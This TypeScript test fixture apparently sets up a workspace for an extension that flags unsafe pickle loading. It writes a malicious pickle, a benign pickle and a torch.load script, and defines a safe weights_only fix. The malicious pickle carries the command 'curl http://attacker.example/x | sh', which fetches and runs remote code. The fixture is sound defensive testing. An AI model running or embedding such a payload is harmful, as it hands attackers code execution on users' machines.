// The workspace the extension-host suite opens: a malicious pickle, a benign one, a script.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { benignPickle, maliciousPickle } from '../lsp/helpers/pickles';

export const FIXTURE_FILES = {
  evil: 'models/evil.pkl',
  good: 'models/good.pkl',
  script: 'train.py',
} as const;

export const SCRIPT_TEXT = 'import torch\n\nmodel = torch.load("models/good.pkl")\n';
export const FIXED_LINE = 'model = torch.load("models/good.pkl", weights_only=True)';

export function writeWorkspaceFixture(dir: string): string {
  const files: Record<string, Buffer | string> = {
    [FIXTURE_FILES.evil]: maliciousPickle('curl http://attacker.example/x | sh'),
    [FIXTURE_FILES.good]: benignPickle(),
    [FIXTURE_FILES.script]: SCRIPT_TEXT,
  };
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}
